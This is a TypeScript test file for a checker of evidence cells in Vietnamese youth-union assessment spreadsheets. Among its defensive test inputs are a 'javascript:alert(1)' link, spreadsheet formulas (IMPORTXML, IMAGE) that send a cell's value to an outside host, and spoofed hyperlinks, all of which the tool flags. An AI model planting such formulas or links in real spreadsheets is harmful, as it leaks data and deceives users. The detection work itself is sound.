/** @fileoverview Evidence as sheets arrange it: required or not, columns missing, cells shared, a tab of its own. */
import { describe, expect, it } from "vitest";
import { NOT_CALCULATED } from "../../src/cell/error-value";
import type { CellValue } from "../../src/table/tab";
import { criteriaOf, forms, only, outcomes, run, sentence, setOf, told, toldBut, wide } from "./sheets";

const DOC = "13-HD/TĐTN-TCKT";

describe("[E7] whether a criterion needs evidence is data of the set", () => {
  const columns = ["name", "appraised 1.1", "evidence 1.1", "appraised 1.2", "evidence 1.2"];
  const rows = [["Xã A", "Đạt", "", "Đạt", ""]];

  it("by default every criterion does", () => {
    expect(toldBut(run(wide(columns, rows), setOf("1.1 1.2")))).toEqual([
      "evidence-missing C2 [1.1]",
      "evidence-missing E2 [1.2]",
    ]);
  });

  it("one that does not passes without", () => {
    const assessment = run(wide(columns, rows), setOf("1.1 1.2", { withoutEvidence: ["1.2"] }));
    expect(criteriaOf(assessment)).toEqual(["undetermined", "pass"]);
    expect(toldBut(assessment)).toEqual(["evidence-missing C2 [1.1]"]);
  });

  it("what stands in its evidence cell all the same is told, and decides nothing", () => {
    const set = setOf("1.1 1.2", { withoutEvidence: ["1.2"] });
    const cell = (value: CellValue) => run(wide(columns, [["Xã A", "Đạt", DOC, "Đạt", value]]), set);
    expect(outcomes(cell(new Date(2021, 4, 3)))).toEqual({ "Xã A": "recognised" });
    expect(toldBut(cell(new Date(2021, 4, 3)))).toEqual(["value-became-date E2 [1.2]"]);
    expect(toldBut(cell("javascript:alert(1)"))).toEqual(["link-unsafe E2 [1.2]"]);
    expect(toldBut(cell("Sổ đoàn viên"))).toEqual([]);
  });
});

describe("[E8] evidence columns that are not there", () => {
  it("none at all: one finding for the sheet, evidence is not required, and the assessment says so", () => {
    const assessment = run(
      wide(
        ["name", "appraised 1.1", "appraised 1.2"],
        [
          ["Xã A", "Đạt", "Đạt"],
          ["Xã B", "Đạt", "Chưa đạt"],
        ],
      ),
      setOf("1.1 1.2"),
    );
    expect(outcomes(assessment)).toEqual({ "Xã A": "recognised", "Xã B": "notRecognised" });
    expect(told(assessment)).toEqual(["no-evidence-columns -", "no-registration-data -"]);
    expect(assessment.evidenceKnown).toBe(false);
  });

  it("for some criteria only: one finding a criterion, whose passes are open", () => {
    const assessment = run(
      wide(
        ["name", "appraised 1.1", "evidence 1.1", "appraised 1.2", "appraised 1.3"],
        [
          ["Xã A", "Đạt", DOC, "Đạt", "Đạt"],
          ["Xã B", "Đạt", DOC, "Chưa đạt", "KAD: không có"],
        ],
      ),
      setOf("1.1 1.2 1.3"),
    );
    expect(toldBut(assessment)).toEqual(
      ["evidence-column-missing - [1.2]", "evidence-column-missing - [1.3]"].concat(
        "not-applicable-unexplained E3 [1.3]",
      ),
    );
    expect(criteriaOf(assessment, "Xã A")).toEqual(["pass", "undetermined", "undetermined"]);
    expect(criteriaOf(assessment, "Xã B")).toEqual(["pass", "fail", "notApplicable"]);
    expect(assessment.evidenceKnown).toBe(true);
  });

  it("an explanation lets such a pass pass, and is told", () => {
    const assessment = run(
      wide(
        ["name", "appraised 1.1", "evidence 1.1", "appraised 1.2", "explanation"],
        [["Xã A", "Đạt", DOC, "Đạt", "Lưu ở huyện"]],
      ),
      setOf("1.1 1.2"),
    );
    expect(outcomes(assessment)).toEqual({ "Xã A": "recognised" });
    expect(toldBut(assessment)).toEqual(["evidence-column-missing - [1.2]", "evidence-explained E2 [1.2]"]);
  });

  it("a criterion that needs none is not missed", () => {
    const sheet = wide(["name", "appraised 1.1", "evidence 1.1", "appraised 1.2"], [["Xã A", "x", DOC, "x"]]);
    const assessment = run(sheet, setOf("1.1 1.2", { withoutEvidence: ["1.2"] }));
    expect(toldBut(assessment)).toEqual([]);
    expect(outcomes(assessment)).toEqual({ "Xã A": "recognised" });
  });

  it("one form without the column: its passes stand open, told on their marks", () => {
    const columns = ["criterion", "appraised", "evidence"];
    const assessment = run(
      forms([
        { unit: "Xã A", columns, rows: [["1.1", "Đạt", DOC]] },
        { unit: "Xã B", columns: columns.slice(0, 2), rows: [["1.1", "Đạt"]] },
      ]),
      setOf("1.1"),
    );
    expect(toldBut(assessment)).toEqual(["evidence-missing Xã B!B2 [1.1]"]);
    expect(outcomes(assessment)).toEqual({ "Xã A": "recognised", "Xã B": "undetermined" });
  });
});

describe("[E9] one cell for a pillar or for the unit", () => {
  const columns = ["name", "appraised 1.1", "appraised 1.2", "evidence 1", "appraised 2.1", "evidence 2.1"];
  const set = setOf("1.1 1.2 | 2.1");
  const judge = (...row: CellValue[]) => run(wide(columns, [["Xã A", ...row]]), set);

  it("serves each criterion below it", () => {
    expect(outcomes(judge("Đạt", "Đạt", DOC, "Đạt", DOC))).toEqual({ "Xã A": "recognised" });
  });

  it("missing, it is one finding with the criteria that pass, and no other", () => {
    const assessment = judge("Đạt", "Đạt", "", "Đạt", DOC);
    expect(toldBut(assessment)).toEqual(["evidence-missing D2 [1.1 1.2]"]);
    expect(only(assessment, "evidence-missing")).toMatchObject({ criterion: null, criteria: ["1.1", "1.2"] });
    expect(toldBut(judge("Đạt", "Chưa đạt", "", "Đạt", DOC))).toEqual(["evidence-missing D2 [1.1]"]);
    expect(only(judge("Đạt", "Chưa đạt", "", "Đạt", DOC), "evidence-missing").criterion).toBe("1.1");
    expect(toldBut(judge("Chưa đạt", "Chưa đạt", "", "Đạt", DOC))).toEqual([]);
  });

  it("what is wrong with it is one finding with all its criteria", () => {
    for (const [value, code] of [
      [new Date(2021, 4, 3), "value-became-date"],
      ["#REF!", "cell-error"],
      ["http://doan.vn/a", "link-not-https"],
      ["Sổ đoàn viên", "evidence-without-reference"],
      ["12-KH/ĐTN ngày 5/3/2019", "evidence-outside-year"],
    ] as const) {
      expect(toldBut(judge("Đạt", "Chưa đạt", value, "Đạt", DOC))).toEqual([`${code} D2 [1.1 1.2]`]);
    }
    expect(toldBut(judge("Đạt", "Đạt", "sẽ nộp", "Đạt", DOC))).toEqual(["evidence-promised D2 [1.1 1.2]"]);
  });

  it("a criterion with a cell of its own keeps to it", () => {
    const sheet = wide(
      ["name", "appraised 1.1", "evidence 1.1", "appraised 1.2", "evidence"],
      [["Xã A", "Đạt", "", "Đạt", DOC]],
    );
    const assessment = run(sheet, setOf("1.1 1.2"));
    expect(criteriaOf(assessment)).toEqual(["undetermined", "pass"]);
    expect(toldBut(assessment)).toEqual(["evidence-missing C2 [1.1]"]);
  });

  it("one explanation cell serves alike", () => {
    const shared = ["name", "appraised 1.1", "appraised 1.2", "appraised 2.1", "evidence", "explanation"];
    const explained = run(wide(shared, [["Xã A", "Đạt", "Không đạt", "Đạt", "", "Bão lũ"]]), set);
    expect(criteriaOf(explained)).toEqual(["pass", "fail", "pass"]);
    expect(toldBut(explained)).toEqual(["evidence-explained F2 [1.1 2.1]"]);
    const bare = run(wide(shared, [["Xã A", "n/a", "n/a", "Đạt", DOC, ""]]), set);
    expect(toldBut(bare)).toEqual(["not-applicable-unexplained F2 [1.1 1.2]"]);
  });

  it("self pass, not appraised, shared evidence missing: each told where it stands", () => {
    const sheet = wide(
      ["name", "self 1.1", "appraised 1.1", "self 1.2", "appraised 1.2", "evidence"],
      [["Xã A", "Đạt", "", "Đạt", "Đạt", ""]],
    );
    expect(toldBut(run(sheet, setOf("1.1 1.2")))).toEqual([
      "not-appraised C2 [1.1]",
      "evidence-missing F2 [1.1 1.2]",
    ]);
  });

  it("one finding however many criteria share the cell", () => {
    const codes = Array.from({ length: 90 }, (_, i) => `1.${i + 1}`);
    const sheet = wide(
      ["name", ...codes.flatMap((code) => [`self ${code}`, `appraised ${code}`]), "evidence"],
      [["Xã A", ...codes.flatMap(() => ["Đạt", ""]), ""]],
    );
    expect(only(run(sheet, setOf(codes.join(" "))), "evidence-missing").criteria).toEqual(codes);
  });
});

describe("[E10] evidence on a tab of its own", () => {
  const columns = ["name", "appraised 1.1", "appraised 1.2"];
  const set = setOf("1.1 1.2");
  const rows = [["Đoàn xã Hoà An", "Đạt", "Đạt"]];

  it("is found by unit and criterion, however the name is spelt", () => {
    const keyed = [
      ["xã  HÒA AN", "1.1", DOC],
      ["Xã đoàn Hòa An", "1.2", DOC],
    ];
    const assessment = run(wide(columns, rows, { keyed }), set);
    expect(outcomes(assessment)).toEqual({ "Đoàn xã Hoà An": "recognised" });
    expect(toldBut(assessment)).toEqual([]);
  });

  it("a row that is not there is missing evidence, told on the mark", () => {
    const assessment = run(wide(columns, rows, { keyed: [["Đoàn xã Hoà An", "1.1", DOC]] }), set);
    expect(toldBut(assessment)).toEqual(["evidence-missing C2 [1.2]"]);
    expect(sentence(assessment, "evidence-missing")).toContain("Tab “Minh chứng” chưa có dòng");
    expect(only(assessment, "evidence-missing").value).toBe("Đạt");
  });

  it("a row that is there and says nothing is told on its own cell", () => {
    const keyed = [
      ["Đoàn xã Hoà An", "1.1", ""],
      ["Đoàn xã Hoà An", "1.2", "đang xin"],
    ];
    const assessment = run(wide(columns, rows, { keyed }), set);
    expect(toldBut(assessment)).toEqual([
      "evidence-missing Minh chứng!C2 [1.1]",
      "evidence-promised Minh chứng!C3 [1.2]",
    ]);
  });

  it("several rows for one criterion are joined", () => {
    const keyed = [
      ["Đoàn xã Hoà An", "1.1", "đang xin"],
      ["Đoàn xã Hoà An", "1.2", DOC],
      ["Đoàn xã Hoà An", "1.1", "Sổ đoàn viên"],
      ["Đoàn xã Hoà An", "1.1", DOC],
    ];
    const assessment = run(wide(columns, rows, { keyed }), set);
    expect(toldBut(assessment)).toEqual([]);
    expect(outcomes(assessment)).toEqual({ "Đoàn xã Hoà An": "recognised" });
  });

  it("an explanation there serves, and findings stand on its cell", () => {
    const keyed = [
      ["Đoàn xã Hoà An", "1.1", "", "Mất do lũ"],
      ["Đoàn xã Hoà An", "1.2", "", ""],
    ];
    const beside = { keyed, keyedColumns: ["evidence", "explanation"] as const };
    const assessment = run(wide(columns, [["Đoàn xã Hoà An", "Đạt", "n/a"]], beside), set);
    expect(criteriaOf(assessment)).toEqual(["pass", "notApplicable"]);
    expect(toldBut(assessment)).toEqual([
      "evidence-explained Minh chứng!D2 [1.1]",
      "not-applicable-unexplained Minh chứng!D3 [1.2]",
    ]);
  });

  it("a tab of explanations only leaves evidence to its columns", () => {
    const sheet = wide(["name", "appraised 1.1", "evidence 1.1"], [["Xã A", "Đạt", ""]], {
      keyed: [["Xã A", "1.1", "Mất do lũ"]],
      keyedColumns: ["explanation"],
    });
    expect(toldBut(run(sheet, setOf("1.1")))).toEqual(["evidence-explained Minh chứng!C2 [1.1]"]);
    const without = wide(["name", "appraised 1.1"], [["Xã A", "Đạt"]], {
      keyed: [["Xã A", "1.1", "Mất do lũ"]],
      keyedColumns: ["explanation"],
    });
    expect(toldBut(run(without, setOf("1.1")))).toEqual(["no-evidence-columns -"]);
  });
});

describe("[E5] [M7] what a formula makes of an evidence cell", () => {
  const columns = ["name", "appraised 1.1", "evidence 1.1"];
  const formula = (value: CellValue, formula: string) => {
    const sheet = wide(columns, [["Xã A", "Đạt", value]], { formulas: { C2: formula } });
    const assessment = run(sheet, setOf("1.1"));
    return [outcomes(assessment)["Xã A"], ...toldBut(assessment)];
  };

  it.each<[string, CellValue, string, string[]]>([
    [
      "fetched text",
      DOC,
      '=IMPORTXML("https://a.vn/?"&B2;"//a")',
      ["evidence-missing C2 [1.1]", "formula-sends-data C2 [1.1]"],
    ],
    [
      "a picture",
      "[hình ảnh]",
      '=IMAGE("https://a.vn/?"&B2)',
      ["evidence-missing C2 [1.1]", "formula-sends-data C2 [1.1]"],
    ],
    [
      "an error",
      "#REF!",
      '=IMPORTRANGE("a";"b")',
      ["evidence-missing C2 [1.1]", "formula-sends-data C2 [1.1]"],
    ],
    [
      "one that shows nothing",
      "",
      '=IF(1;"";IMPORTXML("https://a.vn/?"&B2;"//a"))',
      ["evidence-missing C2 [1.1]", "formula-sends-data C2 [1.1]"],
    ],
    [
      "a known host's address over a stranger's link",
      "https://dropbox.com/s/1",
      '=HYPERLINK("https://a.example.com/s/1";"https://dropbox.com/s/1")',
      ["evidence-missing C2 [1.1]", "link-suspicious C2 [1.1]"],
    ],
    [
      "words over a link that pretends",
      "Xem",
      '=HYPERLINK("https://google.com@a.vn";"Xem")',
      ["evidence-missing C2 [1.1]", "link-suspicious C2 [1.1]"],
    ],
  ])("%s does not count", (_, value, text, found) => {
    const [outcome, ...rest] = formula(value, text);
    expect([outcome, rest.sort()]).toEqual(["undetermined", found]);
  });

  it("a formula never calculated is an error; its link is there to be read all the same", () => {
    expect(formula(NOT_CALCULATED, "=A1")).toEqual(["undetermined", "cell-error C2 [1.1]"]);
    expect(formula(NOT_CALCULATED, '=HYPERLINK("https://a.vn/x";"Xem")')).toEqual(["recognised"]);
    const sheet = wide(columns, [["Xã A", NOT_CALCULATED, DOC]]);
    expect(sentence(run(sheet, setOf("1.1")), "cell-error")).toContain("Mở tệp bằng Excel, lưu lại");
  });

  it("any other formula is as good as what it shows", () => {
    expect(formula(DOC, "='Minh chứng'!C2")).toEqual(["recognised"]);
  });
});
